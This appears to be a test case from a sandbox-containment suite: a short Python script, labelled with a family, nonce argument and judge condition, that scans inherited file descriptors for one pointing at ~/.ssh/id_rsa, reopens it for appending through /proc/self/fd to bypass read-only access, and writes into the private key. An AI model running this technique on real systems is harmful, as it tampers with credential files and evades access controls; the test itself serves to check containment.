"""Opens anew, for writing, a file that the launcher had left open for reading only.

family: descriptors
arguments: {nonce}
judge: changed {home}/.ssh/id_rsa
trace: inherited descriptor
descriptors: key
"""

import contextlib
import os
import sys

for number in range(3, 256):
    with contextlib.suppress(OSError):
        if "id_rsa" in os.readlink(f"/proc/self/fd/{number}"):
            with open(f"/proc/self/fd/{number}", "a") as file:
                file.write(sys.argv[1])
                print("claim: done")
